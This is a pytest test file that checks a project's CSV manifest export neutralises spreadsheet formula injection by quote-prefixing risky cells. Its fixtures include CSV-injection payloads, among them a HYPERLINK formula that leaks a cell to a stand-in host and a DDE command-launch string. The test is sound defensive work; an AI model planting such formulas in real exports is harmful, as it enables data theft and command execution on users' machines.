"""The CSV manifest never hands a spreadsheet a formula: a text cell that starts with =, +, -, @,
a tab or a carriage return is prefixed with a single quote (OWASP's CSV injection rule)."""

from __future__ import annotations

import csv

import numpy as np
import pytest

from tests.cast import make_project
from tests.exports import factories as f

pytestmark = pytest.mark.django_db

HOSTILE = {
    "label": '=HYPERLINK("http://evil.test/?"&A1,"open")',
    "second_label": "@SUM(1+1)*cmd|' /C calc'!A0",
    "patient": "+1-202-555",
    "minus": "-2+3",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def test_formula_like_cells_are_prefixed_with_a_quote_and_read_back_as_text(export) -> None:
    project = make_project(
        name="Hostile names",
        task_type="classification",
        classes=[HOSTILE["label"], HOSTILE["second_label"]],
        deidentify=False,  # keep the hostile patient ids as stored
    )
    patients = [HOSTILE["patient"], HOSTILE["minus"], HOSTILE["tab"], HOSTILE["cr"], "PAT-OK"]
    for index, patient in enumerate(patients):
        pixels = np.full((8, 8), index * 20, dtype=np.uint8)
        data = f.secondary_capture(pixels, patient)
        outcome = f.ingest_bytes(data, source_name=f"img{index}", project=project)
        assert outcome.status == "stored", outcome.reason
    for index, item in enumerate(f.items_of(project)):
        label = HOSTILE["label"] if index % 2 == 0 else HOSTILE["second_label"]
        f.imported(item, "class", {"labels": [label]})

    root = export(project, ["csv"], deidentify=False)
    with (root / "manifest.csv").open(newline="") as fh:
        rows = list(csv.DictReader(fh))

    assert len(rows) == len(f.items_of(project)) >= len(patients)
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(dangerous), (column, value)
    assert {r["labels"] for r in rows} == {"'" + HOSTILE["label"], "'" + HOSTILE["second_label"]}
    stored_patients = {r["patient"] for r in rows}
    # The quote is the only change: stripping it gives the stored value back.
    assert {p[1:] if p.startswith("'") else p for p in stored_patients} == set(patients)
    assert "PAT-OK" in stored_patients
